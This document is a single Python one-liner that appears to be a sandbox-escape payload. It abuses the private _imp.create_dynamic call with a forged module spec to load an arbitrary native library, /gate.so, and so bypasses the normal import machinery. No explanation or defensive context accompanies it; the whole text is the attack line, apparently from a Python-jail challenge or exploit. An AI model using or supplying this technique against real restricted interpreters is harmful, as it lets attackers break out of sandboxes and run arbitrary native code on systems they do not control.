__import__("_imp").create_dynamic(type(__import__("sys").implementation)(name="gate", origin="/gate.so"))
